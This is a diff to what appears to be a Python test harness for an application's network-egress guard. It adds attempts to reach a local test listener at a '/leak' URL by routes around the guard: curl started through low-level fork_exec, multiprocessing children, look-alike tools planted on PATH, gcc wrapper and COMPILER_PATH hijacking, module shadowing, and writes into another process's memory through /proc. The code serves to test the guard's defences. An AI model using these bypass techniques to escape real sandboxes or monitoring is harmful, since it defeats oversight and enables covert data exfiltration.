@@ -6,19 +6,23 @@ stdin, one a line, and answers each with a line of JSON. The libraries' own swit
 come: here the guard alone has to hold.
 """
 
+import importlib
 import json
 import os
+import shutil
 import socket
 import subprocess
 import sys
-from collections.abc import Callable
+import tempfile
+from collections.abc import Callable, Iterator
+from contextlib import contextmanager
 from pathlib import Path
 from typing import Any
 
 from app.privacy.allowed import Allowed
 from app.privacy.attempts import AttemptFile
 from app.privacy.check.limits import connect_in_c, resolve_in_c, send_in_c
-from app.privacy.guard import EgressRefused, Guard
+from app.privacy.guard import FOREIGN_VARIABLE, RECORD_VARIABLE, EgressRefused, Guard
 from app.privacy.network_isolation import go_apart, listen
 from app.settings import load_settings
 
@@ -29,8 +33,10 @@ NAME = "outside.example"  # RFC 2606: no real host can have it
 class Attempts:
     """Every attempt, by its name; the names that end in a bracket need the outside's resolver."""
 
-    def __init__(self, host: str, port: int, listener: socket.socket) -> None:
-        self._host, self._port, self._listener = host, port, listener
+    def __init__(
+        self, host: str, port: int, listener: socket.socket, other: "OtherProcess"
+    ) -> None:
+        self._host, self._port, self._listener, self._other = host, port, listener, other
         self._url = f"http://{host}:{port}/leak"
         own = (name for name in dir(self) if name.startswith("try_"))
         self.known: dict[str, Callable[[], Any]] = {
@@ -119,20 +125,94 @@ class Attempts:
         code = f"import urllib.request; urllib.request.urlopen({self._url!r}, timeout=3)"
         subprocess.run([sys.executable, "-c", code], check=False, capture_output=True)
 
+    def try_spawnv_passfds_curl(self) -> None:
+        from multiprocessing.util import spawnv_passfds
+
+        words = [os.fsencode(word) for word in self._curl()]
+        os.waitpid(spawnv_passfds(os.fsencode(_program("curl")), words, ()), 0)
+
+    def try_fork_exec_curl(self) -> None:
+        fork_exec: Any = importlib.import_module("_posixsubprocess").fork_exec
+        read, write = os.pipe()
+        words = [os.fsencode(word) for word in self._curl()]
+        # As multiprocessing calls it; the last arguments came with later versions of Python.
+        more = (False,) if sys.version_info >= (3, 11) else ()
+        child = fork_exec(
+            words, [os.fsencode(_program("curl"))], True, (write,), None, None,
+            -1, -1, -1, -1, -1, -1, read, write, False, False, -1, None, None, None, -1, None,
+            *more,
+        )  # fmt: skip
+        os.close(read)
+        os.close(write)
+        os.waitpid(child, 0)
+
+    def try_multiprocessing_spawn(self) -> None:
+        self._in_a_child("spawn")
+
+    def try_multiprocessing_forkserver(self) -> None:
+        self._in_a_child("forkserver")
+
+    def try_tool_at_another_path(self) -> None:
+        with _tool_of_ones_own("uname", self._url) as program:
+            subprocess.run([program], check=False, capture_output=True)
+
+    def try_tool_by_the_path(self) -> None:
+        with _tool_of_ones_own("uname", self._url) as program:
+            path = f"{program.parent}{os.pathsep}{os.environ.get('PATH', '')}"
+            found = {**os.environ, "PATH": path}
+            subprocess.run(["uname"], check=False, capture_output=True, env=found)
+
+    def try_compiler_with_a_wrapper(self) -> None:
+        _program("gcc")
+        with _tool_of_ones_own("any", self._url) as program:
+            command = ["gcc", "-wrapper", str(program), "-E", "-x", "c", os.devnull]
+            subprocess.run(command, check=False, capture_output=True)
+
+    def try_compiler_with_a_variable(self) -> None:
+        _program("gcc")
+        with _tool_of_ones_own("collect2", self._url) as program:
+            found = {**os.environ, "COMPILER_PATH": str(program.parent)}
+            command = ["gcc", "-Wl,-t", "-o", os.devnull, "-lc"]
+            subprocess.run(command, check=False, capture_output=True, env=found)
+
+    def try_python_code_that_names_us(self) -> None:
+        code = f"import app.settings\n{_calling(self._url)}"
+        subprocess.run([sys.executable, "-c", code], check=False, capture_output=True)
+
+    def try_python_module_in_another_folder(self) -> None:
+        with tempfile.TemporaryDirectory() as folder:
+            package = Path(folder) / "app"
+            package.mkdir()
+            (package / "__init__.py").write_text("", "utf-8")
+            (package / "zz.py").write_text(_calling(self._url), "utf-8")
+            command = [sys.executable, "-m", "app.zz"]
+            subprocess.run(command, check=False, capture_output=True, cwd=folder)
+
+    def _curl(self) -> list[str]:
+        return ["curl", "--silent", "--max-time", "3", self._url]
+
+    def _in_a_child(self, how: str) -> None:
+        import multiprocessing
+
+        context: Any = multiprocessing.get_context(how)
+        child = context.Process(target=call, args=(self._url,))
+        child.start()
+        child.join()
+
     def try_c_library_in_a_parser(self) -> None:
         """Recorded by the parser's parent; the kernel's own refusal is what counts here."""
-        code = (
-            "import sys; from ingest.sandbox.confinement import Need, confine\n"
-            "from app.privacy.check.limits import connect_in_c\n"
-            "if sys.argv[3] == 'guarded': confine(Need.NOTHING)\n"
-            "sys.exit(connect_in_c(sys.argv[1], int(sys.argv[2])))"
-        )
         how = "bare" if sys.argv[4] == "bare" else "guarded"
-        command = [sys.executable, "-c", "from app.privacy.check import limits\n" + code]
+        command = [sys.executable, "-m", "app.privacy.check.limits"]
         subprocess.run([*command, self._host, str(self._port), how], check=False)
 
     def try_c_library_that_connects(self) -> None:
         connect_in_c(self._host, self._port)
+
+    def try_memory_of_another_process(self) -> None:
+        """What is written there runs outside of every filter and namespace of ours."""
+        with open(f"/proc/{self._other.pid}/mem", "r+b", buffering=0) as memory:
+            memory.seek(self._other.place)
+            memory.write(b"\1")
 
     def try_listening_socket_turned_round(self) -> None:
         self._listener.listen()
@@ -193,13 +273,72 @@ class Attempts:
         analytics.version_check()
 
 
+class OtherProcess:
+    """A process outside of everything of ours, as a shell is: it calls out once a byte of its
+    memory is set. It ends with us.
+    """
+
+    def __init__(self, host: str, port: int) -> None:
+        code = (
+            "import ctypes, os, select, sys, urllib.request\n"
+            "byte = ctypes.c_ubyte(0)\n"
+            "print(ctypes.addressof(byte), flush=True)\n"
+            "while not select.select([0], [], [], 0.02)[0]:\n"
+            "    if byte.value:\n"
+            "        byte.value = 0\n"
+            f"        urllib.request.urlopen('http://{host}:{port}/leak', timeout={_TIMEOUT})\n"
+        )
+        self._process = subprocess.Popen(
+            [sys.executable, "-I", "-c", code],
+            stdin=subprocess.PIPE,
+            stdout=subprocess.PIPE,
+            stderr=subprocess.DEVNULL,
+        )
+        assert self._process.stdout is not None  # opened as a pipe
+        self.pid, self.place = self._process.pid, int(self._process.stdout.readline())
+
+
+class NotHere(Exception):
+    """The program that the attempt would use is not on this machine."""
+
+
+def call(url: str) -> None:
+    """What a child of multiprocessing does."""
+    import urllib.request
+
+    urllib.request.urlopen(url, timeout=_TIMEOUT)
+
+
+def _program(name: str) -> str:
+    path = shutil.which(name)
+    if path is None:
+        raise NotHere(f"there is no {name} on this machine")
+    return path
+
+
+def _calling(url: str) -> str:
+    return f"import urllib.request; urllib.request.urlopen({url!r}, timeout={_TIMEOUT})\n"
+
+
+@contextmanager
+def _tool_of_ones_own(name: str, url: str) -> Iterator[Path]:
+    """A program that calls out and is called like a tool that may be started."""
+    with tempfile.TemporaryDirectory() as folder:
+        script, program = Path(folder) / "call.py", Path(folder) / name
+        script.write_text(_calling(url), "utf-8")
+        program.write_text(f'#!/bin/sh\nexec "{sys.executable}" -I "{script}"\n', "utf-8")
+        program.chmod(0o700)
+        yield program
+
+
 WITH_NAMES = ("udp_packet", "dns_query", "getaddrinfo", "sendmsg_to_a_name", "bind_to_a_name",
               "gethostbyname", "gethostbyaddr", "c_library_that_sends", "c_library_that_looks_up",
               "hugging_face_hub", "chroma_default_embedder", "gradio_analytics",
               "gradio_version_check")  # fmt: skip
 # Past Python, in a process like the one that serves: its network namespace has to hold.
 TURNED = "listening_socket_turned_round"
-BELOW = ("c_library_that_connects", TURNED, "c_library_that_sends",
+MEMORY = "memory_of_another_process"
+BELOW = ("c_library_that_connects", MEMORY, TURNED, "c_library_that_sends",
          "c_library_that_looks_up")  # fmt: skip
 # What the kernel refuses below Python, so that nothing in Python can note it.
 UNRECORDED = ("c_library_in_a_parser", *BELOW)
@@ -216,16 +355,20 @@ def main() -> int:
     out = os.fdopen(os.dup(1), "w")
     os.dup2(2, 1)  # what libraries print is not an answer
     reasons = dict.fromkeys(BELOW, "")
+    other = OtherProcess(host, port)  # before anything is taken away
     if how == "apart":
         (listener,) = listen("0.0.0.0", 0)  # as for a chat that others reach
         apart = go_apart(load_settings({"home": Path(home)}), [listener])
         reasons = dict.fromkeys(BELOW, apart.reason)
         reasons[TURNED] = apart.reason or apart.turnable
+        reasons[MEMORY] = apart.open_to_us
     else:
         listener = socket.create_server(("0.0.0.0", 0))
-    attempts = Attempts(host, port, listener)
+    attempts = Attempts(host, port, listener, other)
     if how != "bare":
         foreign = (f"{host}/32",) if host.startswith("127.") else ()
+        # For children of multiprocessing, which are told as ours are.
+        os.environ[RECORD_VARIABLE], os.environ[FOREIGN_VARIABLE] = home, " ".join(foreign)
         Guard(Allowed(foreign=foreign), AttemptFile(Path(home))).install()
     for line in sys.stdin:
         said = {**_made(attempts.known[line.strip()]), "not_apart": reasons.get(line.strip(), "")}
